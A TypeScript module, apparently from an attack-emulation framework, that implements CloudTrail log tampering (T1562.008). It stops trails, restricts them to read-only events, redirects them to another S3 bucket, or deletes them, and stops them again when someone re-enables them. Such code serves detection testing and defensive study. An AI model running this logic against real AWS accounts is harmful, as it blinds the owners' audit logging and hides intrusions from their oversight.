import { z } from 'zod'
import { type Actor, createActor } from '../actor.js'
import { assertNever } from '../assert-never.js'
import type { JsonObject } from '../json.js'
import { shuffled } from './choices.js'
import { defineTechnique } from './technique.js'

const trails = z.object({ trailList: z.array(z.object({ Name: z.string() })) })
const status = z.object({ IsLogging: z.boolean() })

const methods = ['StopLogging', 'PutEventSelectors', 'UpdateTrail', 'DeleteTrail'] as const
type Method = (typeof methods)[number]

/** Of the management events the reads alone: what the attacker changes is on no file any more. */
const readsOnly = [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: true, DataResources: [] }]

/**
 * Switches the account's trails off, blinds, diverts or deletes them, and switches them off again whenever somebody has switched
 * them on. The event history of CloudTrail goes on all the same, and tells of it.
 */
export const trailTampering = defineTechnique({
  name: 'trail-tampering',
  attackId: 'T1562.008',
  gainsCredentials: false,
  summary:
    'stops, blinds, diverts or deletes the trails of the account, and stops them again when they are switched on',
  parameters: z.strictObject({
    /** Absent: every trail that it finds, in random order. */
    trail: z.string().min(3).max(128).optional(),
    /** Where UpdateTrail makes a trail write to. */
    bucket: z.string().min(3).max(63).default('logs-mirror-eu'),
    by: z.array(z.enum(methods)).min(1).max(methods.length).default(['StopLogging']),
  }),
  begin: ({ account, accessKeyId, sourceIp, userAgent, random }, { trail, bucket, by }) => {
    const actor = createActor({ account, accessKeyId, sourceIp, userAgent })
    const tampering = new Tampering(actor, bucket)
    const act = () => {
      const found = trailsOf(actor)
      const names = trail === undefined ? shuffled(random, found) : found.filter((name) => name === trail)
      for (const name of names) for (const method of by) tampering.do(method, name)
    }
    return { act, credentials: () => [accessKeyId] }
  },
})

/** Empty where it may not look. */
function trailsOf(actor: Actor): string[] {
  const reply = actor.call({ service: 'cloudtrail', action: 'DescribeTrails' })
  return reply.ok ? trails.parse(reply.result).trailList.map(({ Name }) => Name) : []
}

/** Each trail is blinded and diverted once, and stopped and deleted as often as it is there to be. */
class Tampering {
  readonly #actor: Actor
  readonly #bucket: string
  readonly #done = new Set<string>()

  constructor(actor: Actor, bucket: string) {
    this.#actor = actor
    this.#bucket = bucket
  }

  do(method: Method, name: string): void {
    switch (method) {
      case 'StopLogging':
        this.#stop(name)
        break
      case 'PutEventSelectors':
        this.#once(method, { TrailName: name, EventSelectors: readsOnly })
        break
      case 'UpdateTrail':
        this.#once(method, { Name: name, S3BucketName: this.#bucket })
        break
      case 'DeleteTrail':
        this.#call(method, { Name: name })
        break
      default:
        assertNever(method)
    }
  }

  #stop(Name: string): void {
    const reply = this.#call('GetTrailStatus', { Name })
    if (reply.ok && !status.parse(reply.result).IsLogging) return
    this.#call('StopLogging', { Name })
  }

  #once(action: Method, parameters: JsonObject): void {
    const what = JSON.stringify([action, parameters])
    if (!this.#done.has(what) && this.#call(action, parameters).ok) this.#done.add(what)
  }

  #call(action: string, parameters: JsonObject) {
    return this.#actor.call({ service: 'cloudtrail', action, parameters })
  }
}
